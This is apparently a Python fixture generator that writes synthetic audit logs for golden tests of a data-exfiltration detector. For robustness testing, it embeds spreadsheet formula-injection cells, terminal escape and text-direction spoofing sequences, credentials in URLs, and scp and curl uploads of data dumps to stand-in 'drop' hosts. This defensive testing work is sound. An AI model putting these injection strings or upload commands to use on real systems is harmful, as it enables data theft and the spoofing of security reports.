#!/usr/bin/env python3
"""Writes the logs of the golden cases anew: make_logs.py [CASE...]. Then run scripts/golden --update
and read the diff. Cases that are not here were written by hand."""
import pathlib
import sys

sys.dont_write_bytecode = True
HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "cli"))

from story import Story, scp_job  # noqa: E402

SSH = ["/usr/bin/ssh", "-x", "-oPermitLocalCommand=no", "-oClearAllForwardings=yes",
       "-oRemoteCommand=none", "-oRequestTTY=no", "-l", "me", "-s", "--"]


def two_hosts():
    """One log of a collector: etl-01 sends, to an approved address too; bk-07 may send a lot."""
    etl = Story(node="etl-01")
    scp_job(etl, sizes=(3000, 2_000_000, 900))
    scp_job(etl, "198.51.100.10", (3000, 5_000_000), 710, "feed@198.51.100.10:in/")
    scp_job(etl, "203.0.113.34", (3000, 200_000), 720, "drop@203.0.113.34:up/")
    scp = etl.login_shell().fork(950).exec("/usr/bin/scp", "scp", "notes.txt", "me@203.0.113.77:")
    scp.fork(951).exec("/usr/bin/ssh", *SSH, "203.0.113.77", "sftp").upload(
        3, "203.0.113.77", 22, 3000, 9_000_000)
    etl.chatter(260)
    bk = Story(node="bk-07", start=1796173200.02, serial=5000)
    scp_job(bk, "203.0.113.90", (3000, 400_000_000), target="bk@203.0.113.90:")
    bk.chatter()
    mixed, a, b = [], etl.lines, bk.lines
    while a or b:
        mixed += a[:3] + b[:2]
        a, b = a[3:], b[2:]
    return "".join(line + "\n" for line in mixed)


def formulas():
    """Cells that a spreadsheet would run, quotes, several destinations of one invocation."""
    story = Story()
    shell = story.cron_job("=cmd|' /C calc'!A0, \"quoted\"")
    curl = shell.fork(702).exec("/usr/bin/curl", "curl", "-T", 'a,"b"', "ftp://203.0.113.55/up",
                                "-T", "c", "ftp://[2001:db8:1::56]/up")
    curl.upload(5, "203.0.113.55", 21, 60_000_000)
    curl.upload(6, "2001:db8:1::56", 21, 70_000_000)
    atd = story.process(305, 1, "/usr/sbin/atd")
    shell = atd.fork(710, auid=0, ses=4).exec("/usr/bin/dash", "sh")
    shell.fork(712).exec("/usr/bin/python3", '=HYPERLINK("http://203.0.113.57/","x")', "-c",
                         "+1").upload(4, "203.0.113.57", 9001, 105_000_000)
    story.chatter()
    return story.text()


def quiet():
    """A person's upload, and an approved one."""
    story = Story()
    story.login_shell().fork(950).exec(
        "/usr/bin/curl", "curl", "-T", "x", "https://203.0.113.9/").upload(
            5, "203.0.113.9", 443, 300_000_000)
    scp_job(story, "198.51.100.10", (3000, 200_000_000), target="feed@198.51.100.10:in/")
    story.chatter()
    return story.text()


def execs_only():
    story = Story()
    shell = story.cron_job("scp -q /srv/data/dump.tar drop@203.0.113.10:up/")
    shell.fork(702).exec("/usr/bin/scp", "scp", "-q", "/srv/data/dump.tar", "drop@203.0.113.10:up/")
    stamps = {line.split("msg=")[1].split(":")[1] for line in story.lines if "syscall=56" in line}
    return "".join(line + "\n" for line in story.lines
                   if line.split("msg=")[1].split(":")[1] not in stamps)


def nothing_sent():
    story = Story()
    story.cron_job("true")
    return story.text()


def hostile():
    """Escapes and passwords."""
    story = Story()
    shell = story.cron_job("curl -u me:Sw0rdfish ftp://bob:hunter2@203.0.113.9/u\x1b[31m")
    shell.fork(702).exec("/usr/bin/curl", "curl", "-T",
                         "a\x1b]0;owned\x07\x1b[2J\r\nHIGH fake\u202e", "-u", "me:Sw0rdfish",
                         "ftp://bob:hunter2@203.0.113.9/u", cwd="/tmp/\x1b[1m").upload(
                             5, "203.0.113.9", 21, 150_000_000)
    story.chatter()
    return story.text()


def several_transfers():
    """An upload, a download, a daemon with a v4-mapped address, a refused connection."""
    story = scp_job(sizes=(3000, 2_000_000))
    shell = story.cron_job("curl -o f https://203.0.113.35/f", pid=730)
    shell.fork(732).exec("/usr/bin/curl", "curl", "-o", "f", "https://203.0.113.35/f").upload(
        5, "203.0.113.35", 443, 517, 80)
    story.process(777, 1, "/usr/bin/python3", uid=33).upload(
        4, "::ffff:203.0.113.60", 8080, 123_456)
    shell = story.cron_job("curl -T f ftp://203.0.113.39/", pid=740)
    curl = shell.fork(742).exec("/usr/bin/curl", "curl", "-T", "f", "ftp://203.0.113.39/")
    curl.connect(5, "203.0.113.39", 21, exit=-111)
    curl.close(5)
    story.chatter()
    return story.text()


def one_job():
    story = scp_job()
    story.chatter()
    return story.text()


LOGS = {"scan-table": two_hosts, "scan-jsonl": two_hosts, "coverage": two_hosts,
        "scan-csv": formulas, "scan-quiet": quiet, "scan-blind": execs_only,
        "scan-blind-nothing-sent": nothing_sent, "scan-hostile": hostile,
        "transfers": several_transfers, "explain": one_job, "rules-mistakes": one_job}

for case in sys.argv[1:] or LOGS:
    (HERE / case / "audit.log").write_text(LOGS[case]())
